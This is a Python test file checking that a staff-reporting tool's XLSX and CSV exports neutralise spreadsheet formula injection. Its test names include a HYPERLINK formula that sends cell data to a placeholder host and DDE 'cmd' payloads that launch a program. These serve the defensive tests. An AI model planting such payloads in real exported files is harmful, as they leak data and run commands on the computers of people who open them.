"""Text typed by staff never becomes a spreadsheet formula: the XLSX stores it as
text and the CSV prefixes what a spreadsheet would evaluate (OWASP's CSV
injection guidance). Both files are read back as the working group opens them."""

from __future__ import annotations

import asyncio
import csv
import io
import zipfile

from openpyxl import load_workbook
from openpyxl.utils.escape import unescape
from typer.testing import CliRunner

from bot.cli import cli
from documents.table import csv_bytes
from tests.drivers.working_group import Staff, make_agency, place

HOSTILE_NAMES = [
    '=HYPERLINK("http://x/?"&B2,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
HOSTILE_UNIT = "=1+2"


async def hostile_agency(app) -> None:  # noqa: ANN001
    await make_agency(app, "INJ", "กรมทดสอบ", [HOSTILE_UNIT])
    await place(
        app,
        "INJ",
        [Staff(name, HOSTILE_UNIT, "g3", 2, pre={"computer": 2}) for name in HOSTILE_NAMES],
    )


async def report(sqlite_url: str, out, fmt: str) -> None:  # noqa: ANN001
    args = ["report", "--agency", "INJ", "--format", fmt, "--out", str(out), "--with-names"]
    result = await asyncio.to_thread(
        CliRunner().invoke, cli, args, env={"DATABASE_URL": sqlite_url}
    )
    assert result.exit_code == 0, result.output


async def test_xlsx_keeps_hostile_names_as_text(app, sqlite_url, tmp_path):
    await hostile_agency(app)
    out = tmp_path / "inj.xlsx"
    await report(sqlite_url, out, "xlsx")
    with zipfile.ZipFile(out) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name), f"a formula in {name}"
    cells = [
        cell
        for sheet in load_workbook(out).worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    ]
    assert all(cell.data_type == "s" for cell in cells)
    # exactly as typed, a carriage return included: written as the _x000D_ escape of
    # the XLSX format, which Excel reads as the character (openpyxl's reader leaves
    # it escaped in inline text, so it is read here as Excel reads it)
    texts = {unescape(cell.value) for cell in cells}
    assert set(HOSTILE_NAMES) <= texts
    assert HOSTILE_UNIT in texts


async def test_csv_prefixes_what_a_spreadsheet_would_evaluate(app, sqlite_url, tmp_path):
    await hostile_agency(app)
    out = tmp_path / "inj.csv"
    await report(sqlite_url, out, "csv")
    rows = list(csv.reader(io.StringIO(out.read_bytes().decode("utf-8-sig"), newline="")))
    header, body = rows[0], rows[1:]
    names = [row[header.index("name")] for row in body]
    assert sorted(names) == sorted("'" + name for name in HOSTILE_NAMES)
    assert {row[header.index("unit")] for row in body} == {"'" + HOSTILE_UNIT}
    for row in body:
        for value in row:
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_numbers_and_plain_text_are_written_as_they_are():
    data = csv_bytes(["a", "b", "c"], [[-3, "สมชาย", None]]).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(data)))[1] == ["-3", "สมชาย", ""]
